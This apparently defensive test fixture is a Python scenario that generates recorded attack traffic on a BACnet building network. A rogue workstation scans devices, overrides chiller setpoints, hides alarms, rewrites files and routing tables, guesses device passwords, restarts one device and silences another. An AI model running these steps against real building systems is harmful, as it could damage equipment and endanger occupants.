"""A rogue workstation sweeps a building network, overrides setpoints and hides their alarms, moves files,
changes objects and routing, sets clocks, and restarts and silences a device, beside the front end at work."""

from typing import Any

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "bacnet/recorded-attack",
    stacks=("bacpypes3 0.0.110",),
    servers=("10.53.1.10", "10.53.1.11"),
    clients=("10.53.1.20", "10.53.1.66"),
    listens=("udp 47808",),
)


def server() -> None:
    """The chiller under attack and an air handling unit that is silenced."""
    from _bacnet import AIR, CHILLER
    from _bacnet_stations import devices

    devices([CHILLER, AIR])


def client() -> None:
    """Look around, write, reconfigure, restart, silence."""
    import asyncio

    asyncio.run(_attack())


async def _attack() -> None:
    from _bacnet import AIR, ATTACKER, CHILLER, FRONT_END
    from _bacnet_stations import Workstation

    front, rogue = Workstation(FRONT_END), Workstation(ATTACKER)
    for device in (CHILLER, AIR):
        await front.read(device, "analog-input,1")
    await _look_around(rogue, CHILLER)
    await _override(rogue, CHILLER)
    await _reconfigure(rogue, CHILLER)
    _below_the_services(ATTACKER, CHILLER)
    await front.read(CHILLER, "analog-value,1")
    await _control(rogue, CHILLER, AIR)
    for device in (CHILLER, AIR):
        await front.read(device, "analog-input,1")
    for station in (front, rogue):
        station.close()


async def _look_around(rogue: Any, target: str) -> None:
    """Ask range after range who is there, announce itself again and again, read all that there is."""
    from _bacnet import BROADCAST, instance
    from bacpypes3.apdu import IAmRequest
    from bacpypes3.pdu import Address

    for low in range(0, 12000, 1000):
        await rogue.app.who_is(low, low + 999, timeout=0.02)
    await rogue.app.who_has(object_name="fan", timeout=0.1)
    for number in range(12):
        announced = {"iAmDeviceIdentifier": ("device", 4000 + number), "maxAPDULengthAccepted": 1024}
        iam = IAmRequest(**announced, segmentationSupported="no-segmentation", vendorID=999)
        await rogue.ask(iam, BROADCAST)
    device = f"device,{instance(target)}"
    await rogue.read(target, device, "object-list")
    for index in range(1, 12):
        await rogue.read(target, device, "object-list", index)
    for number in range(1, 4):
        await rogue.app.read_property_multiple(Address(target), [f"analog-value,{number}", ["all"]])
    for number in range(50, 60):
        await rogue.read(target, f"analog-input,{number}")


async def _override(rogue: Any, target: str) -> None:
    from _bacnet_requests import acknowledge, watch_property, write_several
    from bacpypes3.apdu import LifeSafetyOperationRequest, SubscribeCOVRequest

    setpoint = "analog-value,1"
    for value in range(20):
        await rogue.write(target, setpoint, "present-value", 90.0 + value, priority=1)
    await rogue.ask(write_several({f"analog-value,{n}": -40.0 for n in range(2, 5)}), target)
    await rogue.write(target, "analog-input,1", "out-of-service", True)
    await rogue.write(target, "analog-input,1", "present-value", 6.0)
    for limit, value in (("high-limit", 9999.0), ("low-limit", -9999.0)):
        await rogue.write(target, "analog-input,1", limit, value)
    await rogue.write(target, "analog-input,1", "event-enable", [0, 0, 0])
    await rogue.write(target, "program,1", "program-change", "unload")
    await rogue.ask(acknowledge(process=1), target)
    for what in ("silence", "reset"):
        operation = {"requestingProcessIdentifier": 1, "requestingSource": "operator", "request": what}
        await rogue.ask(LifeSafetyOperationRequest(**operation), target)
    await rogue.ask(watch_property(setpoint, "priority-array"), target)
    watch = {"subscriberProcessIdentifier": 7, "monitoredObjectIdentifier": setpoint}
    await rogue.ask(SubscribeCOVRequest(**watch, issueConfirmedNotifications=False, lifetime=0), target)
    await rogue.ask(SubscribeCOVRequest(**watch), target)


async def _reconfigure(rogue: Any, target: str) -> None:
    from _bacnet import BROADCAST, instance
    from _bacnet_requests import create, read_file, recipients, time_of_day, write_file
    from bacpypes3 import apdu

    await rogue.ask(read_file(start=0, count=200), target)
    await rogue.ask(write_file(start=0, data=b"supply=25.0 return=30.0 stages=0\n"), target)
    await rogue.ask(create("analog-value,99"), target)
    await rogue.ask(apdu.DeleteObjectRequest(objectIdentifier="notification-class,1"), target)
    for kind in (apdu.AddListElementRequest, apdu.RemoveListElementRequest):
        await rogue.ask(recipients(kind, f"device,{instance(target)}"), target)
    for kind in (apdu.ConfirmedPrivateTransferRequest, apdu.UnconfirmedPrivateTransferRequest):
        await rogue.ask(kind(vendorID=999, serviceNumber=7), target)
    for kind in (apdu.TimeSynchronizationRequest, apdu.UTCTimeSynchronizationRequest):
        await rogue.ask(kind(time=time_of_day(2031)), target)
    await rogue.ask(apdu.UTCTimeSynchronizationRequest(time=time_of_day(2031)), BROADCAST)


def _below_the_services(source: str, target: str) -> None:
    """Tables of the broadcast manager, and routing."""
    import _bacnet as b

    raw = b.Raw(source, target)
    for function, body in (
        (b.READ_BDT, b""),
        (b.READ_FDT, b""),
        (b.REGISTER, b"\x00\x3c"),
        (b.READ_FDT, b""),
        (b.DELETE_FDT, b.entry(b.FRONT_END)),
        (b.WRITE_BDT, b.entry(source, mask=True)),
    ):
        raw.ask(b.bvlc(function, body))
    for kind, body in (
        (b.WHO_IS_ROUTER, b""),
        (b.I_AM_ROUTER, b"\x00\x05"),
        (b.INITIALISE_ROUTING, b"\x01\x00\x05\x01\x00"),
        (b.DISCONNECT, b"\x00\x05"),
    ):
        raw.ask(b.network(kind, body))
    raw.close()


async def _control(rogue: Any, restarted: str, silenced: str) -> None:
    from _bacnet import PASSWORD
    from bacpypes3.apdu import DeviceCommunicationControlRequest, ReinitializeDeviceRequest

    states = ("warmstart", "coldstart", "startBackup", "endBackup", "startRestore", "endRestore")
    for password in ("admin", "1234", PASSWORD):
        again = ReinitializeDeviceRequest(reinitializedStateOfDevice="coldstart", password=password)
        await rogue.ask(again, restarted)
    for state in (*states, "abortRestore", "activateChanges"):
        again = ReinitializeDeviceRequest(reinitializedStateOfDevice=state, password=PASSWORD)
        await rogue.ask(again, restarted)
    for state in ("disableInitiation", "enable", "disable"):
        control = DeviceCommunicationControlRequest(enableDisable=state, timeDuration=60)
        await rogue.ask(control, silenced)
